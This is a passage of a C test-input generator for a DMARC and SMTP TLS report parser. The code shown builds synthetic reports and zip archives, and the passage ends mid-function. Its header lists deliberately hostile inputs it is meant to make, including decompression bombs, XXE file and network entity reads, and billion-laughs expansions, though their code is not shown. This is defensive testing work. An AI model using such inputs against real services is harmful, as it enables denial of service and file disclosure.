/*
 * mkinput.c - make the inputs the tests and the benchmark need, so the
 * repository never holds copies of real reports or of attack files.
 *
 *   mkinput KIND OUTFILE [N]
 *
 * Kinds (N in brackets where it applies):
 *   dmarc N, dmarc-gz N    RFC 7489 aggregate report with N records, plain
 *                          or gzip (streamed, never held whole)
 *   zip-dmarc N            the same report as the only member of a zip
 *   dmarc-longtext N       a small report whose org_name is N bytes
 *   dmarc-bom, dmarc-utf16le, dmarc-utf16be   a small report with a BOM
 *   tlsrpt N               RFC 8460 report, N failure details, 2 policies
 *   zip-multi N            N report members (member i has i+1 records) and
 *                          a README.txt that must be skipped
 *   gzip-bomb, zip-bomb, zip-bomb-lie, gzip-nested-bomb
 *                          1 GiB of zeros in about 1 MB
 *   gzip-bomb-xml, zip-bomb-lie-xml, gzip-nested-bomb-xml
 *                          a report head, then 1 GiB of spaces: zeros
 *                          are refused as "not a report" before any cap
 *                          is reached, these have to meet the caps
 *   xxe-file, xxe-net, xxe-param, xxe-late, xxe-utf16, billion-laughs,
 *   quadratic-blowup       entity attacks in otherwise plausible reports
 *   deep-xml N, deep-json N, truncated-gz, junk N
 *
 * Every kind is deterministic: the same arguments give the same bytes.  A
 * summary line goes to stdout ("records=N messages=M bytes=B" and the
 * like) so tests can compare what ruad parsed with what was made.
 *
 * SECURITY: this is a test tool; its output is hostile on purpose.  It
 * writes OUTFILE and nothing else, and never reads the network or files.
 */
#include <errno.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#define MK_STAGE      (64u * 1024)     /* bytes buffered before deflate */
#define MK_BOMB_BLOCK (1u << 20)       /* zeros per repeated deflate block */
#define MK_BOMB_COUNT 1024u            /* blocks: 1 GiB in all */
#define MK_DOS_TIME   0x6000u          /* 12:00:00 */
#define MK_DOS_DATE   0x5771u          /* 2023-11-17 */
#define MK_SEED       0x5eed0f2a11ce5ull
#define XML_DECL      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"

/* ---- errors ---- */

static void die(const char *fmt, ...)
    __attribute__((format(printf, 1, 2), noreturn));

/* die - print "mkinput: message" and exit 1 */
static void
die(const char *fmt, ...)
{
    va_list ap;

    fputs("mkinput: ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    exit(1);
}

/* xmalloc - malloc or die */
static void *
xmalloc(size_t n)
{
    void *p = malloc(n > 0 ? n : 1);

    if (p == NULL)
        die("out of memory (%zu bytes)", n);
    return p;
}

/* ---- deterministic random numbers (splitmix64) ---- */

struct rng {
    uint64_t s;
};

/* rng_next - the next 64 random bits */
static uint64_t
rng_next(struct rng *r)
{
    uint64_t z = (r->s += 0x9e3779b97f4a7c15ull);

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

/* rng_below - uniform in 0 .. n-1 (n > 0) */
static uint32_t
rng_below(struct rng *r, uint32_t n)
{
    return (uint32_t)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

/* rng_range - uniform in lo .. hi */
static uint32_t
rng_range(struct rng *r, uint32_t lo, uint32_t hi)
{
    return lo + rng_below(r, hi - lo + 1);
}

/* rng_pick - one of the n strings */
static const char *
rng_pick(struct rng *r, const char *const *list, size_t n)
{
    return list[rng_below(r, (uint32_t)n)];
}

#define PICK(r, a) rng_pick((r), (a), sizeof(a) / sizeof((a)[0]))

/* ---- output: a file, memory, or deflate in front of another output ---- */

enum out_kind { OUT_FILE, OUT_MEM, OUT_DEFLATE };

struct out {
    enum out_kind  kind;
    FILE          *f;          /* OUT_FILE: owned */
    const char    *path;       /* OUT_FILE: borrowed, for messages */
    unsigned char *mem;        /* OUT_MEM: owned */
    size_t         len, cap;   /* OUT_MEM; len is also the stage fill */
    struct out    *next;       /* OUT_DEFLATE: borrowed downstream */
    z_stream       zs;         /* OUT_DEFLATE */
    unsigned char *stage;      /* OUT_DEFLATE: owned, MK_STAGE bytes */
    uint64_t       total;      /* bytes written into this output */
};

static void out_write(struct out *o, const void *p, size_t n);

/* out_file - an output writing path */
static void
out_file(struct out *o, const char *path)
{
    memset(o, 0, sizeof(*o));
    o->kind = OUT_FILE;
    o->path = path;
    if ((o->f = fopen(path, "wb")) == NULL)
        die("%s: %s", path, strerror(errno));
}

/* out_mem - an output collecting bytes in memory (o->mem, o->len) */
static void
out_mem(struct out *o)
{
    memset(o, 0, sizeof(*o));
    o->kind = OUT_MEM;
}

/*
 * out_deflate - compress into next; wbits 15 + 16 makes a gzip member,
 * -15 raw deflate (zip).
 */
static void
out_deflate(struct out *o, struct out *next, int wbits)
{
    memset(o, 0, sizeof(*o));
    o->kind = OUT_DEFLATE;
    o->next = next;
    o->stage = xmalloc(MK_STAGE);
    if (deflateInit2(&o->zs, Z_DEFAULT_COMPRESSION, Z_DEFLATED, wbits, 8,
        Z_DEFAULT_STRATEGY) != Z_OK)
        die("deflateInit2 failed");
}

/* out_pump - deflate the stage into next with the given flush mode */
static void
out_pump(struct out *o, int flush)
{
    unsigned char buf[MK_STAGE];
    int           ret;

    o->zs.next_in = o->stage;
    o->zs.avail_in = (uInt)o->len;
    do {
        o->zs.next_out = buf;
        o->zs.avail_out = sizeof(buf);
        ret = deflate(&o->zs, flush);
        if (ret == Z_STREAM_ERROR)
            die("deflate failed");
        out_write(o->next, buf, sizeof(buf) - o->zs.avail_out);
    } while (o->zs.avail_out == 0 ||
        (flush == Z_FINISH && ret != Z_STREAM_END));
    o->len = 0;
}

/* out_write - append (p, n) */
static void
out_write(struct out *o, const void *p, size_t n)
{
    const unsigned char *s = p;
    size_t               k;

    if (n == 0)
        return;
    o->total += n;
    switch (o->kind) {
    case OUT_FILE:
        if (fwrite(p, 1, n, o->f) != n)
            die("%s: %s", o->path, strerror(errno));
        break;
    case OUT_MEM:
        if (n > o->cap - o->len) {
            size_t cap = o->cap ? o->cap : 65536;
            unsigned char *m;

            while (cap - o->len < n)
                cap *= 2;
            if ((m = realloc(o->mem, cap)) == NULL)
                die("out of memory (%zu bytes)", cap);
            o->mem = m;
            o->cap = cap;
        }
        memcpy(o->mem + o->len, p, n);
        o->len += n;
        break;
    case OUT_DEFLATE:
        while (n > 0) {
            k = MK_STAGE - o->len;
            if (k > n)
                k = n;
            memcpy(o->stage + o->len, s, k);
            o->len += k;
            s += k;
            n -= k;
            if (o->len == MK_STAGE)
                out_pump(o, Z_NO_FLUSH);
        }
        break;
    }
}

/* out_str - append a NUL-terminated string */
static void
out_str(struct out *o, const char *s)
{
    out_write(o, s, strlen(s));
}

static void out_printf(struct out *o, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

/* out_printf - append formatted text */
static void
out_printf(struct out *o, const char *fmt, ...)
{
    char    line[1024], *big;
    va_list ap;
    int     n;

    va_start(ap, fmt);
    n = vsnprintf(line, sizeof(line), fmt, ap);
    va_end(ap);
    if (n < 0)
        die("vsnprintf failed");
    if ((size_t)n < sizeof(line)) {
        out_write(o, line, (size_t)n);
        return;
    }
    big = xmalloc((size_t)n + 1);
    va_start(ap, fmt);
    vsnprintf(big, (size_t)n + 1, fmt, ap);
    va_end(ap);
    out_write(o, big, (size_t)n);
    free(big);
}

/* out_close - flush and release; an OUT_MEM keeps its bytes */
static void
out_close(struct out *o)
{
    switch (o->kind) {
    case OUT_FILE:
        if (fclose(o->f) != 0)
            die("%s: %s", o->path, strerror(errno));
        o->f = NULL;
        break;
    case OUT_MEM:
        break;
    case OUT_DEFLATE:
        out_pump(o, Z_FINISH);
        deflateEnd(&o->zs);
        free(o->stage);
        o->stage = NULL;
        break;
    }
}

/* put16 / put32 - little-endian integers for zip and gzip headers */
static void
put16(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)v;
    p[1] = (unsigned char)(v >> 8);
}

static void
put32(unsigned char *p, uint32_t v)
{
    put16(p, v & 0xffff);
    put16(p + 2, v >> 16);
}

/* ---- DMARC aggregate reports (RFC 7489 appendix C) ---- */

struct dmarc_opts {
    const char *decl;       /* XML declaration line, or NULL for none */
    const char *prolog;     /* written after it (DOCTYPE...), or NULL */
    const char *org_raw;    /* org_name content, written as is */
    uint64_t    seed;
    uint64_t    records;
    const char *extra;      /* written inside <feedback> after the policy */
};

struct dmarc_stats {
    uint64_t records;
    uint64_t messages;
};

static const char *const hdr_domains[] = {
    "example.com", "example.com", "example.com", "mail.example.com",
    "news.example.com", "shop.example.com",
};
static const char *const selectors[] = {
    "s1", "s2", "google", "selector1", "selector2", "k1", "mx2023",
    "dkim1024",
};
static const char *const esp_dkim[][2] = {
    { "amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug" },
    { "sendgrid.net", "smtpapi" },
    { "mcsv.net", "k2" },
    { "mailgun.org", "mx" },
};
static const char *const fwd_domains[] = {
    "lists.example.org", "forwarder.example.net", "alumni.example.edu",
    "mailman.example.org",
};
static const char *const envelope_tos[] = {
    "outlook.com", "hotmail.com", "live.de", "gmail.com", "web.de",
};
static const char *const v4_first[] = {
    "209.85", "40.107", "52.100", "66.220", "74.125", "185.12", "93.184",
    "17.58", "198.2", "151.101", "35.190", "104.47",
};
static const char *const v6_prefix[] = {
    "2607:f8b0:4864", "2a01:111:f400", "2a00:1450:4025", "2001:db8:85a3",
    "2a03:2880:f12f",
};

/* dmarc_count - a message count: mostly small, sometimes large (1..500) */
static uint32_t
dmarc_count(struct rng *r)
{
    uint32_t p = rng_below(r, 100);

    if (p < 60)
        return 1;
    if (p < 85)
        return rng_range(r, 2, 10);
    if (p < 97)
        return rng_range(r, 11, 100);
    return rng_range(r, 101, 500);
}

/* dmarc_source_ip - an IPv4 or IPv6 address in canonical form */
static void
dmarc_source_ip(struct rng *r, char *dst, size_t cap)
{
    if (rng_below(r, 100) < 80)
        snprintf(dst, cap, "%s.%u.%u", PICK(r, v4_first),
            rng_below(r, 256), rng_range(r, 1, 254));
    else
        snprintf(dst, cap, "%s:%x::%x", PICK(r, v6_prefix),
            rng_range(r, 1, 0xffff), rng_range(r, 1, 0xffff));
}

/* dmarc_record - one <record>, tab-indented (as Fastmail writes them) */
static void
dmarc_record(struct out *o, struct rng *r, struct dmarc_stats *st)
{
    const char *hdr = PICK(r, hdr_domains);
    const char *disp = "none", *pe_dkim = "pass", *pe_spf = "pass";
    const char *dkim_res = "pass", *spf_res = "pass", *reason = NULL;
    const char *spf_dom = NULL;
    char        ip[64], spf_buf[64];
    uint32_t    cls = rng_below(r, 100), count = dmarc_count(r);
    bool        esp = rng_below(r, 100) < 15;
    unsigned    e = rng_below(r, 4);

    dmarc_source_ip(r, ip, sizeof(ip));
    if (cls < 65) {                                     /* legitimate */
        spf_dom = hdr;
    } else if (cls < 80) {                              /* forwarded */
        pe_spf = "fail";
        spf_res = rng_below(r, 2) ? "fail" : "softfail";
        spf_dom = PICK(r, fwd_domains);
        if (rng_below(r, 3) == 0)
            reason = "forwarded";
    } else if (cls < 90) {                              /* ESP, no DKIM */
        pe_dkim = "fail";
        dkim_res = rng_below(r, 5) ? "fail" : "temperror";
        spf_dom = hdr;
    } else {                                            /* spoofed */
        pe_dkim = pe_spf = "fail";
        dkim_res = rng_below(r, 2) ? "fail" : "none";
        spf_res = rng_below(r, 3) ? "fail" : "softfail";
        snprintf(spf_buf, sizeof(spf_buf), "mx%u.spoof-%u.example.net",
            rng_below(r, 10), rng_below(r, 1000));
        spf_dom = spf_buf;
        esp = false;
        switch (rng_below(r, 8)) {
        case 0:  disp = "none"; reason = "local_policy"; break;
        case 1:  disp = "none"; reason = "mailing_list"; break;
        case 2:  disp = "quarantine"; reason = "sampled_out"; break;
        case 3:  disp = "quarantine"; break;
        default: disp = "reject"; break;
        }
    }
    out_printf(o,
        "\t<record>\n"
        "\t\t<row>\n"
        "\t\t\t<source_ip>%s</source_ip>\n"
        "\t\t\t<count>%u</count>\n"
        "\t\t\t<policy_evaluated>\n"
        "\t\t\t\t<disposition>%s</disposition>\n"
        "\t\t\t\t<dkim>%s</dkim>\n"
        "\t\t\t\t<spf>%s</spf>\n", ip, count, disp, pe_dkim, pe_spf);
    if (reason != NULL) {
        out_printf(o,
            "\t\t\t\t<reason>\n"
            "\t\t\t\t\t<type>%s</type>\n", reason);
        if (rng_below(r, 2))
            out_str(o, "\t\t\t\t\t<comment>arc=pass</comment>\n");
        out_str(o, "\t\t\t\t</reason>\n");
    }
    out_str(o,
        "\t\t\t</policy_evaluated>\n"
        "\t\t</row>\n"
        "\t\t<identifiers>\n");
    if (rng_below(r, 100) < 10)
        out_printf(o, "\t\t\t<envelope_to>%s</envelope_to>\n",
            PICK(r, envelope_tos));
    /* name the envelope domain only where it differs, to keep size down */
    if (spf_dom != hdr)
        out_printf(o, "\t\t\t<envelope_from>%s</envelope_from>\n",
            spf_dom);
    out_printf(o,
        "\t\t\t<header_from>%s</header_from>\n"
        "\t\t</identifiers>\n"
        "\t\t<auth_results>\n"
        "\t\t\t<dkim>\n"
        "\t\t\t\t<domain>%s</domain>\n"
        "\t\t\t\t<selector>%s</selector>\n"
        "\t\t\t\t<result>%s</result>\n"
        "\t\t\t</dkim>\n", hdr, hdr, PICK(r, selectors), dkim_res);
    if (esp)
        out_printf(o,
            "\t\t\t<dkim>\n"
            "\t\t\t\t<domain>%s</domain>\n"
            "\t\t\t\t<selector>%s</selector>\n"
            "\t\t\t\t<result>pass</result>\n"
            "\t\t\t</dkim>\n", esp_dkim[e][0], esp_dkim[e][1]);
    out_printf(o,
        "\t\t\t<spf>\n"
        "\t\t\t\t<domain>%s</domain>\n"
        "\t\t\t\t<scope>mfrom</scope>\n"
        "\t\t\t\t<result>%s</result>\n"
        "\t\t\t</spf>\n"
        "\t\t</auth_results>\n"
        "\t</record>\n", spf_dom, spf_res);
    st->records++;
    st->messages += count;
}

/* dmarc_write - a whole report as opts describes */
static void
dmarc_write(struct out *o, const struct dmarc_opts *opt,
    struct dmarc_stats *st)
{
    struct rng r = { MK_SEED ^ (opt->seed * 0x100000001b3ull) };
    uint64_t   i;

    memset(st, 0, sizeof(*st));
    if (opt->decl != NULL)
        out_printf(o, "%s\n", opt->decl);
    if (opt->prolog != NULL)
        out_str(o, opt->prolog);
    out_printf(o,
        "<feedback>\n"
        "\t<version>1.0</version>\n"
        "\t<report_metadata>\n"
        "\t\t<org_name>%s</org_name>\n"
        "\t\t<email>noreply-dmarc-support@mkinput.example</email>\n"
        "\t\t<extra_contact_info>https://mkinput.example/dmarc/support"
        "</extra_contact_info>\n"
        "\t\t<report_id>%" PRIu64 ".%" PRIu64 "</report_id>\n"
        "\t\t<date_range>\n"
        "\t\t\t<begin>1700006400</begin>\n"
        "\t\t\t<end>1700092799</end>\n"
        "\t\t</date_range>\n"
        "\t</report_metadata>\n"
        "\t<policy_published>\n"
        "\t\t<domain>example.com</domain>\n"
        "\t\t<adkim>r</adkim>\n"
        "\t\t<aspf>r</aspf>\n"
        "\t\t<p>reject</p>\n"
        "\t\t<sp>quarantine</sp>\n"
        "\t\t<pct>100</pct>\n"
        "\t\t<fo>1</fo>\n"
        "\t</policy_published>\n",
        opt->org_raw != NULL ? opt->org_raw : "mkinput.example",
        opt->seed, opt->records);
    if (opt->extra != NULL)
        out_str(o, opt->extra);
    for (i = 0; i < opt->records; i++)
        dmarc_record(o, &r, st);
    out_str(o, "</feedback>\n");
}

/* dmarc_plain - kind "dmarc": a report of n records as plain XML */
static void
dmarc_plain(const char *path, uint64_t n)
{
    struct dmarc_opts  opt = { .decl = "<?xml version=\"1.0\" "
        "encoding=\"UTF-8\"?>", .seed = 1, .records = n };
    struct dmarc_stats st;
    struct out         f;

    out_file(&f, path);
    dmarc_write(&f, &opt, &st);
    out_close(&f);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu64 "\n",
        st.records, st.messages, f.total);
}

/* dmarc_gz - kind "dmarc-gz": the same report, streamed through gzip */
static void
dmarc_gz(const char *path, uint64_t n)
{
    struct dmarc_opts  opt = { .decl = "<?xml version=\"1.0\" "
        "encoding=\"UTF-8\"?>", .seed = 1, .records = n };
    struct dmarc_stats st;
    struct out         f, gz;

    out_file(&f, path);
    out_deflate(&gz, &f, 15 + 16);
    dmarc_write(&gz, &opt, &st);
    out_close(&gz);
    out_close(&f);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu64
        " compressed=%" PRIu64 "\n", st.records, st.messages, gz.total,
        f.total);
}

/*
 * dmarc_small - a 3-record report in memory, UTF-8, with a non-ASCII
 * org_name so a wrong decoding shows.
 */
static void
dmarc_small(struct out *m, const char *decl, struct dmarc_stats *st)
{
    /* "B\u00fccher & Co. \u2013 Pr\u00fcfstelle", escaped for XML */
    struct dmarc_opts opt = { .decl = decl, .seed = 7, .records = 3,
        .org_raw = "B\xc3\xbc" "cher &amp; Co. \xe2\x80\x93 Pr\xc3\xbc"
        "fstelle" };

    out_mem(m);
    dmarc_write(m, &opt, st);
}

/* dmarc_bom - kind "dmarc-bom": UTF-8 byte order mark, then the report */
static void
dmarc_bom(const char *path)
{
    struct dmarc_stats st;
    struct out         m, f;

    dmarc_small(&m, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", &st);
    out_file(&f, path);
    out_write(&f, "\xef\xbb\xbf", 3);
    out_write(&f, m.mem, m.len);
    out_close(&f);
    free(m.mem);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu64 "\n",
        st.records, st.messages, f.total);
}

/*
 * utf16_write - (p, n) of UTF-8 (BMP only, as we made it) as UTF-16 with
 * a BOM, big- or little-endian
 */
static void
utf16_write(struct out *o, const unsigned char *p, size_t n, bool be)
{
    unsigned char u[2];
    uint32_t      c;
    size_t        i = 0;

    put16(u, 0xfeff);
    if (be) {
        unsigned char t = u[0];

        u[0] = u[1];
        u[1] = t;
    }
    out_write(o, u, 2);
    while (i < n) {
        if (p[i] < 0x80) {
            c = p[i];
            i += 1;
        } else if ((p[i] & 0xe0) == 0xc0 && i + 1 < n) {
            c = ((uint32_t)(p[i] & 0x1f) << 6) | (p[i + 1] & 0x3f);
            i += 2;
        } else if ((p[i] & 0xf0) == 0xe0 && i + 2 < n) {
            c = ((uint32_t)(p[i] & 0x0f) << 12) |
                ((uint32_t)(p[i + 1] & 0x3f) << 6) | (p[i + 2] & 0x3f);
            i += 3;
        } else {
            die("utf16_write: unexpected UTF-8 byte 0x%02x", p[i]);
        }
        if (be) {
            u[0] = (unsigned char)(c >> 8);
            u[1] = (unsigned char)c;
        } else {
            put16(u, c);
        }
        out_write(o, u, 2);
    }
}

/*
 * dmarc_utf16 - kinds "dmarc-utf16le" (declaration says UTF-16) and
 * "dmarc-utf16be" (no declaration: the BOM alone tells)
 */
static void
dmarc_utf16(const char *path, bool be)
{
    struct dmarc_stats st;
    struct out         m, f;

    dmarc_small(&m, be ? NULL : "<?xml version=\"1.0\" "
        "encoding=\"UTF-16\"?>", &st);
    out_file(&f, path);
    utf16_write(&f, m.mem, m.len, be);
    out_close(&f);
    free(m.mem);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu64 "\n",
        st.records, st.messages, f.total);
}

/*
 * dmarc_longtext - kind "dmarc-longtext": a 3-record report whose
 * <org_name> is exactly n bytes
 */
static void
dmarc_longtext(const char *path, uint64_t n)
{
    static const char  words[] = "Long Name Reporting Organisation ";
    struct dmarc_opts  opt = { .decl = XML_DECL, .seed = 9, .records = 3 };
    struct dmarc_stats st;
    struct out         f;
    char              *org = xmalloc((size_t)n + 1);
    uint64_t           i;

    for (i = 0; i < n; i++)
        org[i] = words[i % (sizeof(words) - 1)];
    if (n > 0 && org[n - 1] == ' ')
        org[n - 1] = '.';               /* white space would be trimmed */
    org[n] = '\0';
    opt.org_raw = org;
    out_file(&f, path);
    dmarc_write(&f, &opt, &st);
    out_close(&f);
    free(org);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu64
        " text=%" PRIu64 "\n", st.records, st.messages, f.total, n);
}

/* ---- SMTP TLS reports (RFC 8460) ---- */

static const char *const sts_results[] = {
    "certificate-expired", "certificate-host-mismatch",
    "certificate-not-trusted", "starttls-not-supported",
    "validation-failure", "sts-webpki-invalid",
};
static const char *const tlsa_results[] = {
    "tlsa-invalid", "dnssec-invalid", "dane-required",
    "starttls-not-supported", "validation-failure",
};
static const char *const reason_codes[] = {
    "X509_V_ERR_CERT_HAS_EXPIRED", "X509_V_ERR_HOSTNAME_MISMATCH",
    "X509_V_ERR_UNABLE_TO_GET_ISSUER_CERT_LOCALLY", "TLSA_NO_MATCH",
};

/*
 * tlsrpt_details - the failure details of one policy, or with out NULL
 * only their failed-session sum (the same random sequence either way).
 */
static uint64_t
tlsrpt_details(struct out *o, uint64_t seed, uint64_t n, bool tlsa)
{
    struct rng r = { MK_SEED ^ (seed * 0x9e3779b97f4a7c15ull) };
    uint64_t   i, sum = 0;
    uint32_t   count, mx;
    char       ip[64];

    for (i = 0; i < n; i++) {
        const char *res = tlsa ? PICK(&r, tlsa_results) :
            PICK(&r, sts_results);
        const char *code = PICK(&r, reason_codes);
        uint32_t    extras = rng_below(&r, 8);

        dmarc_source_ip(&r, ip, sizeof(ip));
        count = rng_range(&r, 1, 100);
        mx = rng_range(&r, 1, 4);
        sum += count;
        if (o == NULL)
            continue;
        out_printf(o,
            "%s        {\n"
            "          \"result-type\": \"%s\",\n"
            "          \"sending-mta-ip\": \"%s\",\n"
            "          \"receiving-mx-hostname\": \"mx%u.mail.example.com\",\n"
            "          \"receiving-ip\": \"203.0.113.%u\",\n",
            i > 0 ? ",\n" : "", res, ip, mx, mx * 10);
        if (extras == 0)
            out_printf(o, "          \"receiving-mx-helo\": "
                "\"mx%u.mail.example.com\",\n", mx);
        if (extras == 1)
            out_printf(o, "          \"additional-information\": "
                "\"https://mkinput.example/tlsrpt/info?id=%" PRIu64 "\",\n",
                i);
        if (extras == 2)
            out_printf(o, "          \"failure-reason-code\": \"%s\",\n",
                code);
        out_printf(o, "          \"failed-session-count\": %u\n"
            "        }", count);
    }
    if (o != NULL)
        out_str(o, n > 0 ? "\n" : "");
    return sum;
}

/* tlsrpt_policy - one entry of "policies" with n failure details */
static uint64_t
tlsrpt_policy(struct out *o, uint64_t n, bool tlsa)
{
    uint64_t failed = tlsrpt_details(NULL, tlsa ? 2 : 1, n, tlsa);

    if (tlsa)
        out_str(o,
            "    {\n"
            "      \"policy\": {\n"
            "        \"policy-type\": \"tlsa\",\n"
            "        \"policy-string\": [\n"
            "          \"3 1 1 0c72ac70b745ac19998811b131d662c9ac69dbdbe7"
            "cb23e5b514b56664c5d3d6\",\n"
            "          \"2 0 1 b0b1a5bdbd7e4f8c3ac1a5d2b63f7e4a2a0f1f1b5c1e"
            "5f1b2a3d4c5b6a7f8e9d\"\n"
            "        ],\n"
            "        \"policy-domain\": \"example.net\"\n"
            "      },\n");
    else
        out_str(o,
            "    {\n"
            "      \"policy\": {\n"
            "        \"policy-type\": \"sts\",\n"
            "        \"policy-string\": [\n"
            "          \"version: STSv1\",\n"
            "          \"mode: enforce\",\n"
            "          \"mx: *.mail.example.com\",\n"
            "          \"max_age: 604800\"\n"
            "        ],\n"
            "        \"policy-domain\": \"example.com\",\n"
            "        \"mx-host\": [\n"
            "          \"*.mail.example.com\"\n"
            "        ]\n"
            "      },\n");
    out_printf(o,
        "      \"summary\": {\n"
        "        \"total-successful-session-count\": %" PRIu64 ",\n"
        "        \"total-failure-session-count\": %" PRIu64 "\n"
        "      },\n"
        "      \"failure-details\": [\n", 20 * failed + 5326, failed);
    tlsrpt_details(o, tlsa ? 2 : 1, n, tlsa);
    out_str(o, "      ]\n    }");
    return failed;
}

/* tlsrpt - kind "tlsrpt": n failure details over an sts and a tlsa policy */
static void
tlsrpt(const char *path, uint64_t n)
{
    struct out f;
    uint64_t   failed;

    out_file(&f, path);
    out_str(&f,
        "{\n"
        "  \"organization-name\": \"mkinput.example\",\n"
        "  \"date-range\": {\n"
        "    \"start-datetime\": \"2023-11-15T00:00:00Z\",\n"
        "    \"end-datetime\": \"2023-11-15T23:59:59Z\"\n"
        "  },\n"
        "  \"contact-info\": \"smtp-tls-reporting@mkinput.example\",\n"
        "  \"report-id\": \"2023-11-15T00:00:00Z_example.com\",\n"
        "  \"policies\": [\n");
    failed = tlsrpt_policy(&f, n - n / 2, false);
    out_str(&f, ",\n");
    failed += tlsrpt_policy(&f, n / 2, true);
    out_str(&f, "\n  ]\n}\n");
    out_close(&f);
    printf("policies=2 details=%" PRIu64 " failed_sessions=%" PRIu64
        " bytes=%" PRIu64 "\n", n, failed, f.total);
}

/* ---- zip (PKWARE APPNOTE 4.3), written by hand ---- */

struct zip_entry {
    char     name[64];
    uint32_t crc, csize, usize;
    uint16_t method;            /* 0 stored, 8 deflate */
    uint32_t offset;            /* of the local header */
};

/* zip_local - the local header of e at the current offset of f */
static void
zip_local(struct out *f, struct zip_entry *e)
{
    unsigned char h[30];
    size_t        nlen = strlen(e->name);

    e->offset = (uint32_t)f->total;
    put32(h, 0x04034b50);
    put16(h + 4, 20);               /* version needed: 2.0 (deflate) */
    put16(h + 6, 0);                /* flags: sizes known up front */
    put16(h + 8, e->method);
    put16(h + 10, MK_DOS_TIME);
    put16(h + 12, MK_DOS_DATE);
    put32(h + 14, e->crc);
    put32(h + 18, e->csize);
    put32(h + 22, e->usize);
    put16(h + 26, (uint32_t)nlen);
    put16(h + 28, 0);               /* extra field length */
    out_write(f, h, sizeof(h));
    out_write(f, e->name, nlen);
}

/* zip_central - central directory and end record for the n entries */
static void
zip_central(struct out *f, const struct zip_entry *ents, size_t n)
{
    unsigned char h[46];
    uint32_t      start = (uint32_t)f->total;
    size_t        i, nlen;

    for (i = 0; i < n; i++) {
        nlen = strlen(ents[i].name);
        put32(h, 0x02014b50);
        put16(h + 4, 0x0314);       /* made by: Unix, 2.0 */
        put16(h + 6, 20);
        put16(h + 8, 0);
        put16(h + 10, ents[i].method);
        put16(h + 12, MK_DOS_TIME);
        put16(h + 14, MK_DOS_DATE);
        put32(h + 16, ents[i].crc);
        put32(h + 20, ents[i].csize);
        put32(h + 24, ents[i].usize);
        put16(h + 28, (uint32_t)nlen);
        put16(h + 30, 0);           /* extra */
        put16(h + 32, 0);           /* comment */
        put16(h + 34, 0);           /* disk */
        put16(h + 36, 0);           /* internal attributes */
        put32(h + 38, 0100644u << 16);
        put32(h + 42, ents[i].offset);
        out_write(f, h, sizeof(h));
        out_write(f, ents[i].name, nlen);
    }
    put32(h, 0x06054b50);
    put16(h + 4, 0);
    put16(h + 6, 0);
    put16(h + 8, (uint32_t)n);
    put16(h + 10, (uint32_t)n);
    put32(h + 12, (uint32_t)f->total - start);
    put32(h + 16, start);
    put16(h + 20, 0);               /* comment length */
    out_write(f, h, 22);
}

/* zip_member - add (p, n) under name, deflated or stored */
static void
zip_member(struct out *f, struct zip_entry *e, const char *name,
    const unsigned char *p, size_t n, bool deflated)
{
    struct out m, raw;

    memset(e, 0, sizeof(*e));
    snprintf(e->name, sizeof(e->name), "%s", name);
    e->crc = (uint32_t)crc32(0, p, (uInt)n);
    e->usize = (uint32_t)n;
    if (!deflated) {
        e->method = 0;
        e->csize = (uint32_t)n;
        zip_local(f, e);
        out_write(f, p, n);
        return;
    }
    out_mem(&m);
    out_deflate(&raw, &m, -15);
    out_write(&raw, p, n);
    out_close(&raw);
    e->method = 8;
    e->csize = (uint32_t)m.len;
    zip_local(f, e);
    out_write(f, m.mem, m.len);
    free(m.mem);
}

static const char readme_text[] =
    "This archive holds DMARC aggregate reports made by mkinput.\n"
    "This file is not a report and must be skipped.\n";

/*
 * zip_multi - kind "zip-multi": README.txt (stored), then n deflated
 * report members, member i with i+1 records
 */
static void
zip_multi(const char *path, uint64_t n)
{
    struct zip_entry  *ents = xmalloc((size_t)(n + 1) * sizeof(*ents));
    struct dmarc_stats st;
    struct out         f, m;
    uint64_t           i, recs = 0, msgs = 0;
    char               name[64];

    if (n > 1000)
        die("zip-multi: at most 1000 members");
    out_file(&f, path);
    zip_member(&f, &ents[0], "README.txt", (const unsigned char *)
        readme_text, sizeof(readme_text) - 1, false);
    printf("members=%" PRIu64 " counts=", n);
    for (i = 0; i < n; i++) {
        struct dmarc_opts opt = { .decl = "<?xml version=\"1.0\" "
            "encoding=\"UTF-8\"?>", .seed = 100 + i, .records = i + 1 };

        out_mem(&m);
        dmarc_write(&m, &opt, &st);
        snprintf(name, sizeof(name), "example.com!mkinput.example!"
            "1700006400!1700092799!%" PRIu64 ".xml", i + 1);
        zip_member(&f, &ents[i + 1], name, m.mem, m.len, true);
        free(m.mem);
        recs += st.records;
        msgs += st.messages;
        printf("%s%" PRIu64 "/%" PRIu64, i > 0 ? "," : "", st.records,
            st.messages);
    }
    zip_central(&f, ents, (size_t)n + 1);
    out_close(&f);
    free(ents);
    printf(" records=%" PRIu64 " messages=%" PRIu64 "\n", recs, msgs);
}

/* zip_dmarc - kind "zip-dmarc": the "dmarc N" report as one zip member */
static void
zip_dmarc(const char *path, uint64_t n)
{
    struct dmarc_opts  opt = { .decl = "<?xml version=\"1.0\" "
        "encoding=\"UTF-8\"?>", .seed = 1, .records = n };
    struct dmarc_stats st;
    struct zip_entry   e;
    struct out         f, m;

    out_mem(&m);
    dmarc_write(&m, &opt, &st);
    if (m.len > UINT32_MAX)
        die("zip-dmarc: too large for a zip without zip64");
    out_file(&f, path);
    zip_member(&f, &e, "report.xml", m.mem, m.len, true);
    zip_central(&f, &e, 1);
    out_close(&f);
    free(m.mem);
    printf("records=%" PRIu64 " messages=%" PRIu64 " bytes=%" PRIu32
